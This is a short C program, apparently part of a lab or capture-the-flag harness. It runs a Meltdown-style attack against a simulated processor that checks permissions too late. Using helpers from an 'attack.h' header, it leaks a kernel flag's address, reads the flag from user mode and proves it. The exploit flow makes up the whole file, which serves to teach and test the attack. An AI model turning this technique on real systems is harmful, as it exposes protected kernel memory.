/* Reads the kernel's flag through the model of a processor that checks permissions too late. */
#include <errno.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;
	uint64_t flag;
	long status;

	attack_leak(&leak);
	attack_say("the flag is at 0x%lx; loading it as user mode, permissions checked too late",
		   leak.flag);
	status = bw_vuln_meltdown(leak.flag, &flag);
	attack_check("vuln_meltdown", status);
	if (status == -EFAULT) {
		attack_say("user mode's root does not translate that address: nothing to load");
		return attack_finish();
	}
	attack_say("it is 0x%lx", flag);
	attack_check("flag_prove", bw_flag_prove(flag));
	return attack_finish();
}
